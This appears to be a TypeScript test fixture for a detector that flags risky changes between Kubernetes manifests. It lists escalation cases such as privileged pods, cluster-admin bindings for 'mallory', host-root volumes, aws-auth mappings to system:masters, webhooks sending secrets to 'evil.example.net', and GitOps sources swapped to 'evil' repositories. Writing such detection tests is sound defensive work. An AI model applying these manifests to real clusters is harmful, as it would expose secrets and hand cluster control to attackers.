import type { ValueMap } from '../../../src/manifest/model.ts';
import { apps, type Case, object, pair, web } from './build.ts';

const volume = (spec: object) => object('v1/PersistentVolume', 'a', { spec: { ...spec } });
const webhook = (kind: string, url: string, resource = '*', more = {}) =>
  object(`admissionregistration.k8s.io/v1/${kind}`, 'a', {
    webhooks: [
      {
        name: 'a.example.com',
        clientConfig: { url },
        failurePolicy: 'Ignore',
        rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: [resource] }],
        ...more,
      },
    ],
  });
const login = (arn: string, group: string) =>
  object(
    'v1/ConfigMap',
    'aws-auth',
    { data: { mapRoles: `- rolearn: ${arn}\n  groups: [${group}]\n` } },
    { namespace: 'kube-system' },
  );
const token = (type: string) => object('v1/Secret', 'bootstrap-token-a', { type }, { namespace: 'kube-system' });
const flux = (url: string, name = 'a') => object('source.toolkit.fluxcd.io/v1/GitRepository', name, { spec: { url } });
const carvel = (url: string) => object('kappctrl.k14s.io/v1alpha1/App', 'a', { spec: { fetch: [{ git: { url } }] } });
const provider = (image: string) => object('pkg.crossplane.io/v1/Provider', 'a', { spec: { package: image } });
const linux = (type: string) => web({ pod: { securityContext: { seLinuxOptions: { type } } } });
const hook = (hooks: Record<string, string>, container = {}) => web({ annotations: hooks, container });
const privileged = { securityContext: { privileged: true } };
const skip = { 'argocd.argoproj.io/hook': 'Skip' };
const admin = (annotations: Record<string, string>) =>
  object(
    'rbac.authorization.k8s.io/v1/ClusterRoleBinding',
    'a',
    {
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'User', name: 'mallory' }],
    },
    { annotations },
  );
const reading = (annotations: Record<string, string>) => [
  object(
    'rbac.authorization.k8s.io/v1/ClusterRole',
    'a',
    { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['list'] }] },
    { annotations },
  ),
  object('rbac.authorization.k8s.io/v1/ClusterRoleBinding', 'a', {
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'a' },
    subjects: [{ kind: 'User', name: 'mallory' }],
  }),
];
const gathering = (selector: ValueMap) =>
  object('rbac.authorization.k8s.io/v1/ClusterRole', 'a', { aggregationRule: { clusterRoleSelectors: [selector] } });
const allowing = (group: string, resource: string, verb: string) =>
  object('rbac.authorization.k8s.io/v1/ClusterRole', 'a', {
    rules: [{ apiGroups: [group], resources: [resource], verbs: [verb] }],
  });
const respecting = (...jsonPointers: string[]) => ({
  ignoreDifferences: [{ group: 'apps', kind: 'Deployment', jsonPointers }],
  syncPolicy: { syncOptions: ['RespectIgnoreDifferences=true'] },
});
const role = 'arn:aws:iam::111122223333:role';

/** The same harm in a roundabout way: by objects that no rule about it looked at. */
export const ROUNDABOUT_CASES: Case[] = [
  [
    'pod-privileged',
    'fires',
    'what was skipped before',
    'critical',
    pair(hook(skip, privileged), hook({}, privileged)),
  ],
  [
    'pod-privileged',
    'fires',
    'what was a test before',
    'critical',
    pair(hook({ 'helm.sh/hook': 'test' }, privileged), hook({}, privileged)),
  ],
  ['pod-privileged', 'silent', 'what is skipped', '', pair([], hook(skip, privileged))],
  [
    'pod-privileged',
    'exempt',
    'a hook that ran before',
    '',
    pair(hook({ 'argocd.argoproj.io/hook': 'Sync' }, privileged), hook({}, privileged)),
  ],
  [
    'run-as-root',
    'fires',
    'what is skipped no more',
    'high',
    pair(hook(skip, { securityContext: { runAsNonRoot: true } }), hook({}, { securityContext: { runAsUser: 0 } })),
  ],
  [
    'replicas-zero',
    'fires',
    'what was skipped before',
    'high',
    pair(web({ annotations: skip }), web({ spec: { replicas: 0 } })),
  ],
  ['rbac-cluster-admin', 'fires', 'a binding that was skipped', 'critical', pair(admin(skip), admin({}))],
  [
    'rbac-cluster-admin',
    'fires',
    'a role that gathers all',
    'critical',
    pair(
      gathering({ matchLabels: { team: 'a' } }),
      gathering({ matchExpressions: [{ key: 'a', operator: 'DoesNotExist' }] }),
    ),
  ],
  ['rbac-cluster-admin', 'fires', 'an empty selector', 'critical', pair([], gathering({}))],
  ['rbac-cluster-admin', 'silent', 'roles of a team', '', pair([], gathering({ matchLabels: { team: 'a' } }))],
  [
    'rbac-escalation',
    'fires',
    'writing Applications',
    'high',
    pair([], allowing('argoproj.io', 'applications', 'create')),
  ],
  [
    'rbac-escalation',
    'fires',
    'what Flux deploys',
    'high',
    pair([], allowing('helm.toolkit.fluxcd.io', 'helmreleases', 'create')),
  ],
  [
    'rbac-escalation',
    'fires',
    'policies that refuse',
    'high',
    pair([], allowing('admissionregistration.k8s.io', 'validatingadmissionpolicybindings', 'delete')),
  ],
  [
    'rbac-escalation',
    'fires',
    'any directory of a node',
    'medium',
    pair([], allowing('', 'persistentvolumes', 'create')),
  ],
  ['rbac-escalation', 'silent', 'claims', '', pair([], allowing('', 'persistentvolumeclaims', 'create'))],
  ['rbac-escalation', 'silent', 'reading Applications', '', pair([], allowing('argoproj.io', 'applications', 'get'))],
  ['rbac-secrets-read', 'fires', 'a role that was skipped', 'critical', pair(reading(skip), reading({}))],
  [
    'ignore-differences-removed',
    'fires',
    'what the cluster kept',
    'high',
    apps(respecting('/spec/template'), respecting('/metadata/labels'), {}, [web()]),
  ],
  [
    'ignore-differences-removed',
    'fires',
    'replicas that the cluster kept',
    'medium',
    apps(respecting('/spec/replicas'), respecting('/metadata/labels'), {}, [web()]),
  ],
  ['pod-privileged', 'fires', 'a folder behind a claim', 'critical', pair([], volume({ hostPath: { path: '/' } }))],
  ['pod-privileged', 'fires', 'any other folder', 'high', pair([], volume({ hostPath: { path: '/srv/data' } }))],
  [
    'pod-privileged',
    'fires',
    'a local volume of the system',
    'critical',
    pair([], volume({ local: { path: '/etc/kubernetes' } })),
  ],
  ['pod-privileged', 'exempt', 'a disk of the node', '', pair([], volume({ local: { path: '/mnt/disks/a' } }))],
  ['pod-privileged', 'fires', 'a type of SELinux', 'high', pair(web(), linux('spc_t'))],
  ['pod-privileged', 'silent', 'a usual type of SELinux', '', pair(web(), linux('container_t'))],
  [
    'rbac-secrets-read',
    'fires',
    'a webhook outside',
    'critical',
    pair([], webhook('ValidatingWebhookConfiguration', 'https://evil.example.net/a', 'secrets')),
  ],
  [
    'rbac-secrets-read',
    'fires',
    'a webhook for some namespaces',
    'high',
    pair(
      [],
      webhook('MutatingWebhookConfiguration', 'https://evil.example.net', '*', {
        namespaceSelector: { matchLabels: { a: 'b' } },
      }),
    ),
  ],
  [
    'rbac-secrets-read',
    'silent',
    'a webhook in the cluster',
    '',
    pair([], webhook('ValidatingWebhookConfiguration', 'https://a.shop.svc/a', 'secrets')),
  ],
  [
    'rbac-secrets-read',
    'exempt',
    'the same host',
    '',
    pair(
      webhook('ValidatingWebhookConfiguration', 'https://a.example.net/a', 'secrets'),
      webhook('ValidatingWebhookConfiguration', 'https://a.example.net/b', 'secrets'),
    ),
  ],
  [
    'rbac-escalation',
    'fires',
    'a webhook outside',
    'high',
    pair(
      webhook('MutatingWebhookConfiguration', 'https://a.example.net', 'pods'),
      webhook('MutatingWebhookConfiguration', 'https://evil.example.net', 'pods'),
    ),
  ],
  [
    'rbac-escalation',
    'silent',
    'a webhook outside that only refuses',
    '',
    pair([], webhook('ValidatingWebhookConfiguration', 'https://evil.example.net', 'pods')),
  ],
  ['rbac-escalation', 'fires', 'a token of nodes', 'high', pair([], token('bootstrap.kubernetes.io/token'))],
  ['rbac-escalation', 'silent', 'another Secret', '', pair([], token('Opaque'))],
  [
    'rbac-cluster-admin',
    'fires',
    'a role of AWS',
    'critical',
    pair(login(`${role}/a`, 'system:nodes'), login(`${role}/a`, 'system:masters')),
  ],
  [
    'rbac-cluster-admin',
    'exempt',
    'the same role of AWS',
    '',
    pair(login(`${role}/a`, 'system:masters'), login(`${role}/a`, 'viewers, system:masters')),
  ],
  ['rbac-cluster-admin', 'silent', 'another group', '', pair([], login(`${role}/a`, 'system:nodes'))],
  [
    'source-repo-changed',
    'fires',
    'what Flux deploys',
    'high',
    pair(flux('https://github.com/acme/a'), flux('https://github.com/evil/a')),
  ],
  [
    'source-repo-changed',
    'fires',
    'another one of the same owner',
    'medium',
    pair(flux('https://github.com/acme/a'), flux('https://github.com/acme/b')),
  ],
  [
    'source-repo-changed',
    'fires',
    'a new one of a stranger',
    'high',
    pair(flux('https://github.com/acme/a'), [
      flux('https://github.com/acme/a'),
      flux('ssh://git@github.com/evil/a', 'b'),
    ]),
  ],
  [
    'source-repo-changed',
    'silent',
    'a new one of somebody known',
    '',
    pair(flux('https://github.com/acme/a'), [
      flux('https://github.com/acme/a'),
      flux('https://github.com/acme/b', 'b'),
    ]),
  ],
  [
    'source-repo-changed',
    'exempt',
    'another spelling for Flux',
    '',
    pair(flux('https://github.com/acme/a'), flux('ssh://git@github.com/acme/a.git')),
  ],
  [
    'source-repo-changed',
    'fires',
    'what Carvel deploys',
    'high',
    pair(carvel('https://github.com/acme/a'), carvel('https://github.com/evil/a')),
  ],
  [
    'source-repo-changed',
    'fires',
    'a package of Crossplane',
    'high',
    pair(provider('xpkg.example.com/acme/a:v1'), provider('xpkg.example.com/evil/a:v1')),
  ],
  [
    'source-repo-changed',
    'silent',
    'another version of a package',
    '',
    pair(provider('xpkg.example.com/acme/a:v1'), provider('xpkg.example.com/acme/a:v2@sha256:00')),
  ],
];
